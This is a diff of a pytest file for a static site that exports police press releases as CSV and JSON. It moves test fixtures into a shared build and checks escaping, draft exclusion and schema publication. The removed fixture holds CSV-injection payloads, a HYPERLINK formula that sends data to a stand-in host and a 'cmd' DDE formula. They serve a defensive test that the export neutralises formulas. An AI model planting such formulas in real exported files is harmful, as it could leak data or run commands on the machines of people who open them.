@@ -7,13 +7,11 @@ import datetime
 import io
 import json
 import re
-import shutil
 from pathlib import Path
 
 import pytest
-from conftest import run_pelican
-from content_facts import carriers, published_releases
-from hypothesis import given, settings, strategies
+from content_facts import carriers, published_releases, read_header
+from hypothesis import given, strategies
 from jsonschema import Draft202012Validator
 from referencing import Registry as SchemaRegistry
 from referencing import Resource
@@ -126,8 +124,77 @@ def test_csv_round_trips_to_the_json(site):
             assert role["name"] in cell and role["rank"] in cell and role["post"] in cell
 
 
-def test_every_term_has_a_json_document_with_exactly_its_releases(site):
-    facts = published_releases(CONTENT)
+def test_every_term_page_links_its_json_document(site):
+    pages = 0
+    for spec in KINDS.values():
+        for document in (site.output / spec.label).glob("*/index.json"):
+            link = site.html(f"{spec.label}/{document.parent.name}/").find("a", class_="data")
+            assert (document.parent / link["href"]).resolve() == document.resolve()
+            pages += 1
+    assert pages
+
+
+def test_the_schema_is_published_with_the_data(site):
+    published = load_json(site.output / "data" / "releases.schema.json")
+    assert published == SCHEMA
+    assert (
+        load_json(site.output / "data" / "releases.json")["schema"] == "/data/releases.schema.json"
+    )
+
+
+# The extended build (tests/conftest.py: EXTENDED) holds a release full
+# of CSV-special characters, one of formulas, and drafts.
+
+
+def test_quotes_commas_semicolons_and_accents_survive_the_csv(extended_site):
+    content, build = extended_site.content, extended_site
+    rows = {row["slug"]: row for row in read_csv(build.output / "data" / "releases.csv")}
+    row = rows["rapat-tiga-pilar-evaluasi-keamanan"]
+    assert row["title"] == "Rapat “Tiga Pilar”, Koordinasi; Évaluasi Keamanan Menteng"
+    assert row["summary"].startswith("Warga bertanya: “Kapan patroli malam dimulai?”")
+    assert row["places"] == "Jalan Cikini Raya, No. 5; Kelurahan Cikini"
+    assert row["officers"] == "Kompol Bayu Marfiando (Kapolsek Menteng)"
+    assert len(rows) == len(published_releases(content))
+
+
+def test_formulas_are_text_in_the_csv_and_unchanged_in_the_json(extended_site):
+    build = extended_site
+    row = {row["slug"]: row for row in read_csv(build.output / "data" / "releases.csv")}[
+        "rilis-rumus"
+    ]
+    record = {r["slug"]: r for r in load_json(build.output / "data" / "releases.json")["releases"]}[
+        "rilis-rumus"
+    ]
+    for column in ("title", "summary", "places", "sources"):
+        assert row[column][:1] == "'" and row[column][1:2] in "=+-@", column
+    assert row["title"] == "'" + record["title"]
+    assert row["summary"] == "'" + record["summary"]
+    assert row["places"] == "'" + "; ".join(record["places"])
+    assert record["places"] == ["-1+1", "Kelurahan Cikini"] and record["sources"] == ["@SUM(1+1)"]
+    # Every other cell of every row: nothing a spreadsheet would evaluate.
+    for row in read_csv(build.output / "data" / "releases.csv"):
+        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row.values())
+
+
+def test_drafts_stay_out_of_the_data(extended_site):
+    drafts = [
+        read_header(path)["slug"]
+        for path in (extended_site.content / "rilis").rglob("*.md")
+        if read_header(path)["status"] == "draft"
+    ]
+    assert len(drafts) >= 2
+    data_files = [*extended_site.output.rglob("*.json"), *extended_site.output.rglob("*.csv")]
+    assert data_files
+    for slug in drafts:
+        assert (extended_site.output / "draf" / slug / "index.html").is_file()
+        for path in data_files:
+            assert slug not in path.read_text(encoding="utf-8-sig"), (path, slug)
+
+
+@pytest.mark.parametrize("build", ["site", "extended_site"])
+def test_every_term_has_a_json_document_with_exactly_its_releases(build, request):
+    site = request.getfixturevalue(build)
+    facts = published_releases(site.content)
     term_document = validator("term_document")
     collection = load_json(site.output / "data" / "releases.json")
     records = {record["slug"]: record for record in collection["releases"]}
@@ -157,123 +224,6 @@ def test_every_term_has_a_json_document_with_exactly_its_releases(site):
                     assert "officer" not in ref
 
 
-def test_every_term_page_links_its_json_document(site):
-    pages = 0
-    for spec in KINDS.values():
-        for document in (site.output / spec.label).glob("*/index.json"):
-            link = site.html(f"{spec.label}/{document.parent.name}/").find("a", class_="data")
-            assert (document.parent / link["href"]).resolve() == document.resolve()
-            pages += 1
-    assert pages
-
-
-def test_the_schema_is_published_with_the_data(site):
-    published = load_json(site.output / "data" / "releases.schema.json")
-    assert published == SCHEMA
-    assert (
-        load_json(site.output / "data" / "releases.json")["schema"] == "/data/releases.schema.json"
-    )
-
-
-TRICKY_RELEASE = """\
-Title: Rapat "Tiga Pilar", Koordinasi; Évaluasi Keamanan Menteng
-Date: 2024-12-02 09:15
-Slug: rapat-tiga-pilar-evaluasi-keamanan
-Summary: Warga bertanya: "Kapan patroli malam dimulai?" Jawabnya, mulai pekan depan, 100%.
-Units: Polsek Menteng
-Officers: Kapolsek Menteng Kompol Bayu Marfiando
-Activities: Patroli Tiga Pilar
-Places: Jalan Cikini Raya, No. 5; Kelurahan Cikini
-Sources: contoh.id
-Status: published
-
-Isi rilis.
-"""
-
-
-# Fields a spreadsheet would run as formulas (OWASP "CSV Injection").
-FORMULA_RELEASE = """\
-Title: =HYPERLINK("http://formula.example/?data=","Klik")
-Date: 2024-12-04 08:00
-Slug: rilis-rumus
-Summary: +cmd|' /C calc'!A0
-Units: Polsek Menteng
-Activities: Cooling System
-Places: -1+1; Kelurahan Cikini
-Sources: @SUM(1+1)
-Status: published
-
-Isi rilis.
-"""
-
-
-DRAFT_RELEASE = TRICKY_RELEASE.replace("Status: published", "Status: draft").replace(
-    "Slug: rapat-tiga-pilar-evaluasi-keamanan", "Slug: draf-yang-belum-terbit"
-)
-
-
-@pytest.fixture(scope="module")
-def tricky_site(tmp_path_factory):
-    """The real content plus a release full of CSV-special characters, and a draft."""
-    content = tmp_path_factory.mktemp("tricky") / "content"
-    shutil.copytree(CONTENT, content)
-    (content / "rilis" / "2024" / "2024-12-03-draf.md").write_text(DRAFT_RELEASE, encoding="utf-8")
-    (content / "rilis" / "2024" / "2024-12-02-rapat.md").write_text(
-        TRICKY_RELEASE, encoding="utf-8"
-    )
-    (content / "rilis" / "2024" / "2024-12-04-rumus.md").write_text(
-        FORMULA_RELEASE, encoding="utf-8"
-    )
-    build = run_pelican(content, tmp_path_factory.mktemp("tricky-out"))
-    assert build.returncode == 0, build.stdout + build.stderr
-    return content, build
-
-
-def test_quotes_commas_semicolons_and_accents_survive_the_csv(tricky_site):
-    content, build = tricky_site
-    rows = {row["slug"]: row for row in read_csv(build.output / "data" / "releases.csv")}
-    row = rows["rapat-tiga-pilar-evaluasi-keamanan"]
-    assert row["title"] == "Rapat “Tiga Pilar”, Koordinasi; Évaluasi Keamanan Menteng"
-    assert row["summary"].startswith("Warga bertanya: “Kapan patroli malam dimulai?”")
-    assert row["places"] == "Jalan Cikini Raya, No. 5; Kelurahan Cikini"
-    assert row["officers"] == "Kompol Bayu Marfiando (Kapolsek Menteng)"
-    assert len(rows) == len(published_releases(content))
-
-
-def test_formulas_are_text_in_the_csv_and_unchanged_in_the_json(tricky_site):
-    _, build = tricky_site
-    row = {row["slug"]: row for row in read_csv(build.output / "data" / "releases.csv")}[
-        "rilis-rumus"
-    ]
-    record = {r["slug"]: r for r in load_json(build.output / "data" / "releases.json")["releases"]}[
-        "rilis-rumus"
-    ]
-    for column in ("title", "summary", "places", "sources"):
-        assert row[column][:1] == "'" and row[column][1:2] in "=+-@", column
-    assert row["title"] == "'" + record["title"]
-    assert row["summary"] == "'" + record["summary"]
-    assert row["places"] == "'" + "; ".join(record["places"])
-    assert record["places"] == ["-1+1", "Kelurahan Cikini"] and record["sources"] == ["@SUM(1+1)"]
-    # Every other cell of every row: nothing a spreadsheet would evaluate.
-    for row in read_csv(build.output / "data" / "releases.csv"):
-        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row.values())
-
-
-def test_drafts_stay_out_of_the_data(tricky_site):
-    _, build = tricky_site
-    assert (build.output / "draf" / "draf-yang-belum-terbit" / "index.html").is_file()
-    data_files = [*build.output.rglob("*.json"), *build.output.rglob("*.csv")]
-    assert data_files
-    for path in data_files:
-        assert "draf-yang-belum-terbit" not in path.read_text(encoding="utf-8-sig"), path
-
-
-def test_a_new_release_joins_its_terms_documents(tricky_site):
-    _, build = tricky_site
-    document = load_json(build.output / "kegiatan" / "patroli-tiga-pilar" / "index.json")
-    assert document["releases"][-1]["slug"] == "rapat-tiga-pilar-evaluasi-keamanan"
-
-
 def test_an_archive_without_releases_builds_empty_data_and_no_charts(content_copy, build_content):
     for release in (content_copy / "rilis").rglob("*.md"):
         release.unlink()
@@ -299,7 +249,6 @@ JSON_VALUES = strategies.recursive(
 )
 
 
-@settings(max_examples=200, deadline=None)
 @given(JSON_VALUES)
 def test_the_json_writer_writes_what_json_dumps_writes(document):
     """plugins/opendata.py indents JSON itself, for speed: the same data, the same
